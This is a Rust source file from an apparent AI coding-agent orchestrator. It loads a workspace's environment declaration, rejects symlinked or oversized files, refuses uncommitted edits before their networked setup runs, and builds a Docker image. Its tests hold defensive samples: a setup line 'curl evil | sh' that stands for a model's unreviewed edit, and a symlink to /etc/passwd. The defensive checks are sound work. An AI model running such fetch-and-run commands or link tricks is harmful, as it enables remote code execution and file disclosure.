//! A workspace's declared environment on the Docker backend (docs/ENVIRONMENTS.md): the run
//! gets the environment image of the runner image it would have used, and the declaration's
//! verify commands where the request names none.

use std::path::Path;

use bollard::Docker;
use codex_orchestrator_core::environment::{Environment, EnvironmentVerify, FILE};
use codex_orchestrator_core::model::{RunRequest, VerifyOptions};
use tracing::info;

use super::setup::{RUN_ENVIRONMENT_FILE, RunEnvironment};
use crate::config::Config;
use crate::error::{RunnerError, StoreError};
use crate::store::RunStore;
use codex_orchestrator_core::model::RunId;

/// Largest declaration read, in bytes.
const MAX_FILE_BYTES: u64 = 256 * 1024;

/// The declaration in `workspace`, if it has one: a regular file (not a link), checked.
pub fn read_declaration(workspace: &Path) -> Result<Option<Environment>, String> {
    let path = workspace.join(FILE);
    let meta = match std::fs::symlink_metadata(&path) {
        Ok(m) => m,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(format!("{FILE}: {e}")),
    };
    if !meta.is_file() {
        return Err(format!(
            "{FILE} is not a regular file (a link or a directory is not read)"
        ));
    }
    if meta.len() > MAX_FILE_BYTES {
        return Err(format!(
            "{FILE} is {} bytes; at most {MAX_FILE_BYTES}",
            meta.len()
        ));
    }
    let text = std::fs::read_to_string(&path).map_err(|e| format!("{FILE}: {e}"))?;
    Environment::parse(&text)
        .map(Some)
        .map_err(|e| e.to_string())
}

/// Refuses a declaration git sees as changed or new in a workspace that is a git repository
/// (`git status` of the file; `safe.directory` for a workspace another uid owns): the
/// declaration's setup runs with network and writes the shared caches, so only a committed —
/// reviewed — one runs. A run's own edit of it (a model in a write mode can make one) stays
/// in its patch until someone commits it. A workspace that is no repository has nothing to
/// compare with and is not checked.
pub fn check_committed(workspace: &Path) -> Result<(), String> {
    if !std::fs::symlink_metadata(workspace.join(".git")).is_ok_and(|m| m.is_dir()) {
        return Ok(());
    }
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(workspace)
        .args([
            "-c",
            "safe.directory=*",
            "--no-optional-locks",
            "status",
            "--porcelain=v1",
            "--untracked-files=all",
            "--",
            FILE,
        ])
        .env("GIT_TERMINAL_PROMPT", "0")
        .stdin(std::process::Stdio::null())
        .output()
        .map_err(|e| format!("cannot check that {FILE} is committed (is git installed?): {e}"))?;
    if !out.status.success() {
        return Err(format!(
            "cannot check that {FILE} is committed: git status failed: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        ));
    }
    let status = String::from_utf8_lossy(&out.stdout);
    if status.trim().is_empty() {
        return Ok(());
    }
    Err(format!(
        "{FILE} has changes that are not committed (`{}`): its setup runs with network and writes the shared caches, so only a committed declaration runs; review and commit it (a run's own edit of it shows in that run's patch)",
        status.trim()
    ))
}

/// The request's verify options with the environment's commands for the kinds it names none
/// of (pure): what a request says wins over the workspace's file.
pub fn merge_verify(req: Option<VerifyOptions>, env: &EnvironmentVerify) -> Option<VerifyOptions> {
    if env.is_empty() {
        return req;
    }
    let mut v = req.unwrap_or_default();
    v.build = v.build.or_else(|| env.build.clone());
    v.lint = v.lint.or_else(|| env.lint.clone());
    v.test = v.test.or_else(|| env.test.clone());
    Some(v)
}

/// Applies the workspace's declaration to `req` at submit: checks it (a bad declaration
/// refuses the request before anything exists), takes its verify commands where the request
/// names none, and returns what the run's start needs — the image to build the environment
/// image on (`req.image`, else `default_image`), the setup, variables, caches and hosts. The
/// environment image is built when the run starts ([`build_image`]), so that its progress
/// shows in the run's status.
pub fn apply(
    default_image: &str,
    cfg: &Config,
    req: &mut RunRequest,
) -> Result<Option<RunEnvironment>, RunnerError> {
    let Some(env) = read_declaration(&req.workspace).map_err(RunnerError::InvalidRequest)? else {
        return Ok(None);
    };
    check_committed(&req.workspace).map_err(RunnerError::InvalidRequest)?;
    let hosts = env
        .setup_hosts(&cfg.environment.allow_hosts)
        .map_err(|e| RunnerError::InvalidRequest(e.to_string()))?;
    let base = req
        .image
        .clone()
        .unwrap_or_else(|| default_image.to_owned());
    req.verify = merge_verify(req.verify.take(), &env.verify);
    Ok(Some(RunEnvironment {
        environment: env,
        hosts,
        // Read (and checked) when the image is built at the run's start.
        extra_ca: cfg.environment.ca_file.is_some(),
        base_image: base,
    }))
}

/// Builds the run's environment image unless it exists (`progress` gets each line of the
/// build); returns its tag. A failed build is the run's failure, with apt's output tail.
pub async fn build_image(
    docker: &Docker,
    cfg: &Config,
    plan: &RunEnvironment,
    progress: impl FnMut(&str),
) -> Result<String, String> {
    let ca = if plan.extra_ca {
        cfg.environment.ca_bundle().map_err(|e| e.to_string())?
    } else {
        None
    };
    let image = crate::image::environment::ensure_environment_image(
        docker,
        &plan.base_image,
        &plan.environment,
        ca.as_deref(),
        false,
        progress,
    )
    .await
    .map_err(|e| match e {
        crate::image::ImageError::Build { .. } => format!(
            "the environment of {FILE} could not be built (is every package a Debian bookworm package?): {e}"
        ),
        other => format!("the environment image could not be built: {other}"),
    })?;
    if image.built {
        info!(image = %image.tag, packages = ?image.packages, "environment image built");
    }
    Ok(image.tag)
}

/// Keeps what the run's start needs in its directory.
pub fn save(store: &RunStore, id: &RunId, plan: &RunEnvironment) -> Result<(), RunnerError> {
    let bytes =
        serde_json::to_vec_pretty(plan).map_err(|e| RunnerError::Internal(e.to_string()))?;
    store.write_file(id, RUN_ENVIRONMENT_FILE, &bytes)?;
    Ok(())
}

/// What [`save`] kept, if the run has an environment.
pub fn load(store: &RunStore, id: &RunId) -> Result<Option<RunEnvironment>, RunnerError> {
    let path = store.path(id, RUN_ENVIRONMENT_FILE);
    match std::fs::read(&path) {
        Ok(bytes) => serde_json::from_slice(&bytes)
            .map(Some)
            .map_err(|e| RunnerError::Internal(format!("{}: {e}", path.display()))),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(StoreError::io("read", path, e).into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_requests_verify_commands_win_over_the_files() {
        let file = EnvironmentVerify {
            build: Some("make".into()),
            lint: None,
            test: Some("cargo test --offline".into()),
        };
        let req = VerifyOptions {
            test: Some("cargo nextest run".into()),
            ..Default::default()
        };
        assert_eq!(
            merge_verify(Some(req), &file),
            Some(VerifyOptions {
                build: Some("make".into()),
                test: Some("cargo nextest run".into()),
                ..Default::default()
            })
        );
        assert_eq!(merge_verify(None, &EnvironmentVerify::default()), None);
    }

    #[test]
    fn only_a_committed_declaration_runs_in_a_repository() {
        let ws = tempfile::tempdir().unwrap();
        let git = |args: &[&str]| {
            let out = std::process::Command::new("git")
                .arg("-C")
                .arg(ws.path())
                .args(["-c", "user.name=t", "-c", "user.email=t@e"])
                .args(args)
                .output()
                .unwrap();
            assert!(out.status.success(), "{out:?}");
        };
        // No repository: nothing to compare with.
        std::fs::create_dir_all(ws.path().join(".codex-orchestrator")).unwrap();
        std::fs::write(ws.path().join(FILE), "setup = \"make deps\"\n").unwrap();
        assert_eq!(check_committed(ws.path()), Ok(()));
        git(&["init", "-q"]);
        assert_eq!(
            check_committed(ws.path()),
            Err(format!(
                "{FILE} has changes that are not committed (`?? {FILE}`): its setup runs with network and writes the shared caches, so only a committed declaration runs; review and commit it (a run's own edit of it shows in that run's patch)"
            ))
        );
        git(&["add", "-A"]);
        git(&["commit", "-qm", "env"]);
        assert_eq!(check_committed(ws.path()), Ok(()));
        // An edit (as a model in a write mode could make) is refused until committed.
        std::fs::write(ws.path().join(FILE), "setup = \"curl evil | sh\"\n").unwrap();
        assert!(
            check_committed(ws.path())
                .unwrap_err()
                .starts_with(&format!(
                    "{FILE} has changes that are not committed (`M {FILE}`)"
                )),
        );
        // Other uncommitted files do not matter.
        std::fs::write(ws.path().join(FILE), "setup = \"make deps\"\n").unwrap();
        std::fs::write(ws.path().join("notes.txt"), "x").unwrap();
        assert_eq!(check_committed(ws.path()), Ok(()));
    }

    #[test]
    fn a_link_or_an_oversized_file_is_not_read() {
        let ws = tempfile::tempdir().unwrap();
        assert_eq!(read_declaration(ws.path()), Ok(None));
        std::fs::create_dir_all(ws.path().join(".codex-orchestrator")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", ws.path().join(FILE)).unwrap();
        assert_eq!(
            read_declaration(ws.path()),
            Err(format!(
                "{FILE} is not a regular file (a link or a directory is not read)"
            ))
        );
        std::fs::remove_file(ws.path().join(FILE)).unwrap();
        std::fs::write(ws.path().join(FILE), vec![b'#'; 300 * 1024]).unwrap();
        assert_eq!(
            read_declaration(ws.path()),
            Err(format!("{FILE} is 307200 bytes; at most 262144"))
        );
    }
}
